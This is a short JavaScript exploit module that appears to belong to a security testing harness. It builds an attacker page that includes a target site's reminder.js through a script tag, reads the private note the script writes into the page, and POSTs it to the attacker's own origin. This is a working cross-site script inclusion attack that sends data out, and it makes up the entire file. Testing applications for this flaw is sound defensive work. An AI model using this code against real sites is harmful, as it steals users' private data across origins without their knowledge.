import { exploit } from '#attack';

/** The script of the program runs in any page that includes it, and writes the note into the element that it finds there. */
export default exploit(async ({ target, visit }) => {
  const page = `<!doctype html>
    <p id="reminder"></p>
    <script src="${target.url}/reminder.js"></script>
    <script>
      const note = document.getElementById('reminder').textContent;
      if (note !== '') fetch('/', { method: 'POST', body: note });
    </script>`;
  return visit(page);
});
